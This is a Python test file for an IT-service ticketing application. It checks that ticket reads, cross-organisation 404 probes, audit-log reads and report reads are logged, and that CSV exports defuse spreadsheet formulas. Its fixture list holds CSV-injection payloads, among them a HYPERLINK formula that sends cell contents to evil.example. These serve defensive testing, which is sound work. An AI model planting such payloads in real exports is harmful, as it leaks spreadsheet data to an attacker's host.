"""Every answer that shows a ticket's content is a ``ticket_read`` in the access log (every API
read of a ticket, and the ticket page on any status, a failed form's 409/422 included); a ticket
address answered 404 (an unknown ticket, or another organisation's) is a ``not_found``, so
enumeration shows; reading the log itself is an ``audit_read``; the monthly report names whose
report was read. And the CSV exports defuse formulas in every text cell."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from itilflow.models import ApiToken
from itilflow.services import access_log, directory, reports
from tests.reports.conftest import api_incident, bearer, entries
from tests.web.conftest import csrf_of, sign_in


def test_every_api_read_of_a_ticket_is_logged(app, rt, tokens):
    ticket = api_incident(app, tokens)
    api = app.test_client()
    reads = [("comments", f"/tickets/{ticket['id']}/comments"),
             ("consultations", f"/tickets/{ticket['id']}/consultations"),
             ("waiting_on", f"/tickets/{ticket['id']}/waiting-on"),
             ("problems", f"/tickets/{ticket['number']}/problems"),
             ("known_errors", f"/tickets/{ticket['id']}/known-errors")]
    for _what, path in reads:
        answer = api.get(f"/api/v1{path}", headers=bearer(tokens, "agent@sit.test"))
        assert answer.status_code == 200, (path, answer.get_json())
    logged = entries(rt, action="ticket_read")
    assert [(e.actor_email, e.target, e.data["what"], e.data["via"], e.data["ticket_id"])
            for e in logged] == [("agent@sit.test", ticket["number"], what, "api", ticket["id"])
                                 for what, _path in reads]
    assert all(e.status == 200 and e.method == "GET" for e in logged)


def test_change_warnings_and_a_problems_incidents_are_reads(app, rt, tokens):
    incident = api_incident(app, tokens)
    api = app.test_client()
    problem = api.post("/api/v1/problems", headers=bearer(tokens, "agent@sit.test"),
                       json={"system": "kort", "layer": "operating_system", "title": "Leak",
                             "incidents": [incident["id"]]})
    assert problem.status_code == 201, problem.get_json()
    change = api.post("/api/v1/changes", headers=bearer(tokens, "agent@sit.test"), json={
        "system": "kort", "environment": "production", "layer": "operating_system",
        "change_type": "normal", "title": "Patch", "planned_start": "2027-01-05T10:00:00Z",
        "planned_end": "2027-01-05T11:00:00Z"})
    assert change.status_code == 201, change.get_json()
    assert api.get(f"/api/v1/problems/{problem.get_json()['id']}/incidents",
                   headers=bearer(tokens, "agent@sit.test")).status_code == 200
    assert api.get(f"/api/v1/changes/{change.get_json()['number']}/warnings",
                   headers=bearer(tokens, "agent@sit.test")).status_code == 200
    # writes answered with the ticket are not reads: the ticket's history records them
    assert [(e.target, e.data["what"]) for e in entries(rt, action="ticket_read")] == [
        (problem.get_json()["number"], "incidents"), (change.get_json()["number"], "warnings")]


def test_probing_other_organisations_tickets_is_logged_as_not_found(app, rt, tokens):
    ticket = api_incident(app, tokens)
    api = app.test_client()
    erst = bearer(tokens, "rep@erst.test")
    probes = [f"/api/v1/tickets/{ticket['id']}", f"/api/v1/tickets/{ticket['number']}/comments",
              f"/api/v1/tickets/{ticket['id']}/events", "/api/v1/tickets/999999",
              f"/api/v1/changes/{ticket['id']}/warnings"]
    for path in probes:
        assert api.get(path, headers=erst).status_code == 404
    assert api.post(f"/api/v1/tickets/{ticket['id']}/comments", headers=erst,
                    json={"body": "hello?"}).status_code == 404
    # the same probe again within the minute is one entry
    assert api.get(probes[0], headers=erst).status_code == 404
    ui = app.test_client()
    sign_in(ui, "rep@erst.test")
    assert ui.get(f"/tickets/{ticket['number']}").status_code == 404
    found = entries(rt, action="not_found")
    n, i = ticket["number"], str(ticket["id"])
    assert [(e.method, e.path, e.target, e.data["asked"], e.data["via"]) for e in found] == [
        ("GET", probes[0], n, i, "api"), ("GET", probes[1], n, n, "api"),
        ("GET", probes[2], n, i, "api"), ("GET", probes[3], "999999", "999999", "api"),
        ("GET", probes[4], n, i, "api"), ("POST", f"/api/v1/tickets/{i}/comments", n, i, "api"),
        ("GET", f"/tickets/{n}", n, n, "ui")]
    assert all(e.status == 404 and e.actor_email == "rep@erst.test" for e in found)
    assert "ticket_id" not in next(e for e in found if e.target == "999999").data
    assert not entries(rt, action="ticket_read")


def test_a_failed_form_that_shows_the_ticket_page_is_a_read(app, rt, tokens):
    ticket = api_incident(app, tokens)
    ui = app.test_client()
    sign_in(ui, "agent@sit.test")
    page = ui.get(f"/tickets/{ticket['number']}").get_data(as_text=True)
    token = csrf_of(page)
    empty = ui.post(f"/tickets/{ticket['number']}/comments", data={"csrf_token": token,
                                                                  "body": ""})
    assert empty.status_code == 422 and "Tiles time out" in empty.get_data(as_text=True)
    bad_version = ui.post(f"/tickets/{ticket['number']}/transitions/acknowledge",
                          data={"csrf_token": token, "version": "abc"})
    assert bad_version.status_code == 422, bad_version.status_code
    stale = ui.post(f"/tickets/{ticket['number']}/transitions/acknowledge",
                    data={"csrf_token": token, "version": "99"})
    assert stale.status_code == 409, stale.status_code
    reads = entries(rt, action="ticket_read")
    assert [(e.actor_email, e.method, e.status, e.target, e.data["via"]) for e in reads] == [
        ("agent@sit.test", "GET", 200, ticket["number"], "ui"),
        ("agent@sit.test", "POST", 422, ticket["number"], "ui"),
        ("agent@sit.test", "POST", 422, ticket["number"], "ui"),
        ("agent@sit.test", "POST", 409, ticket["number"], "ui"),
    ]


def test_reading_the_access_log_is_logged(app, rt, tokens):
    api = app.test_client()
    assert api.get("/api/v1/audit/access?action=login",
                   headers=bearer(tokens, "admin@sit.test")).status_code == 200
    ui = app.test_client()
    sign_in(ui, "admin@sit.test")
    assert ui.get("/admin/access-log?target=INC-000001").status_code == 200
    reads = entries(rt, action="audit_read")
    assert [(e.actor_email, e.path, e.data["query"]) for e in reads] == [
        ("admin@sit.test", "/api/v1/audit/access?action=login", {"action": "login"}),
        ("admin@sit.test", "/admin/access-log?target=INC-000001", {"target": "INC-000001"}),
    ]
    # the export stays an export
    assert api.get("/api/v1/audit/access?format=csv",
                   headers=bearer(tokens, "admin@sit.test")).status_code == 200
    assert len(entries(rt, action="audit_read")) == 2
    assert len(entries(rt, action="export")) == 1


def test_the_report_read_names_the_resolved_customer(app, rt, tokens):
    api = app.test_client()
    month = "2026-11"
    for email in ("boss@gst.test", "boss@sit.test"):
        answer = api.get(f"/api/v1/reports/monthly?month={month}", headers=bearer(tokens, email))
        assert answer.status_code == 200, answer.get_json()
    assert api.get(f"/api/v1/reports/monthly?month={month}&customer=all",
                   headers=bearer(tokens, "boss@gst.test")).status_code == 200
    ui = app.test_client()
    sign_in(ui, "boss@gst.test")
    assert ui.get(f"/reports/monthly?month={month}").status_code == 200
    assert [(e.actor_email, e.target) for e in entries(rt, action="report_read")] == [
        ("boss@gst.test", "GST"), ("boss@sit.test", "all"), ("boss@gst.test", "GST"),
        ("boss@gst.test", "GST")]


# --- CSV: formulas defused in every text cell -------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_access_log_csv_defuses_formulas(rt, world, payload):
    s = rt.session_factory()
    access_log.record(s, "login_failed", now=datetime(2026, 11, 24, 9, tzinfo=UTC),
                      actor_email=payload, target=payload, path=payload)
    s.commit()
    _user, actor = world.actor(s, "admin@sit.test")
    text = "".join(access_log.entries_csv(access_log.iter_entries(
        s, actor, access_log.AccessFilters())))
    s.close()
    rows = list(csv.reader(io.StringIO(text)))
    row = dict(zip(rows[0], rows[1], strict=True))
    for column in ("actor_email", "path", "target"):
        assert row[column] == "'" + payload, (column, row[column])
    assert row["seq"] == "1" and row["status"] == ""


@pytest.mark.parametrize("value", [-5, "-5", 2.5, "1e3", "plain", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert access_log.csv_cell(value) == ("" if value is None else value)


def test_the_monthly_csv_defuses_a_known_errors_title(app, rt, tokens):
    api = app.test_client()
    title = PAYLOADS[0]
    made = api.post("/api/v1/problems", headers=bearer(tokens, "agent@sit.test"),
                    json={"system": "kort", "layer": "operating_system", "title": title})
    assert made.status_code == 201, made.get_json()
    number = made.get_json()["number"]
    for trigger, fields in (("investigate", {}),
                            ("record_known_error", {"root_cause": "x", "workaround": "y"})):
        fired = api.post(f"/api/v1/tickets/{number}/transitions",
                         headers=bearer(tokens, "agent@sit.test"),
                         json={"trigger": trigger, **fields})
        assert fired.status_code == 200, fired.get_json()
    month = datetime.now(UTC).strftime("%Y-%m")
    answer = api.get(f"/api/v1/reports/monthly?month={month}&customer=GST&format=csv",
                     headers=bearer(tokens, "boss@sit.test"))
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    known = [r for r in rows if r[2] == "known_error"]
    assert known == [["problems", number, "known_error", "'" + title]]


def test_every_cell_of_the_monthly_csv_goes_through_the_one_function():
    report = {"customer": "=evil", "month": "2026-11", "timezone": "\tEurope",
              "availability": [{"system": "@sys", "customer": "+c", "service_window": "-w",
                                "window_seconds": 10, "downtime_seconds": 0, "outages": 0,
                                "availability_percent": 100.0}],
              "incidents": {"back_and_forth_tickets": ["=INC"], "by_priority": {"=P1": 1}},
              "changes": {}, "problems": {"known_error_list": [
                  {"number": "\rPRB", "title": "=t"}]}, "paging": {}}
    rows = list(csv.reader(io.StringIO(reports.report_csv(report))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'=evil" in cells and "'\tEurope" in cells and "'=INC" in cells and "'=t" in cells


# --- no token material in the log ------------------------------------------------------------

def test_token_use_and_refusals_keep_no_characters_of_the_token(app, rt, tokens):
    api = app.test_client()
    secret = tokens["agent@sit.test"]
    assert api.get("/api/v1/systems", headers=bearer(tokens, "agent@sit.test")).status_code == 200
    wrong = secret[:-1] + ("x" if secret[-1] != "x" else "y")
    for _ in range(2):
        assert api.get("/api/v1/systems",
                       headers={"Authorization": f"Bearer {wrong}"}).status_code == 401
    s = rt.session_factory()
    token_id = s.scalar(select(ApiToken.id).where(
        ApiToken.user_id == directory.user_by_email(s, "agent@sit.test").id))
    s.close()
    used = entries(rt, action="token_use")
    assert [(e.actor_email, e.target) for e in used] == [("agent@sit.test", f"token:{token_id}")]
    refused = entries(rt, action="token_refused")
    assert len(refused) == 2 and refused[0].target == refused[1].target
    assert refused[0].target.startswith("sha256:")
    for entry in entries(rt):
        assert secret[4:12] not in repr(vars(entry)), entry.action
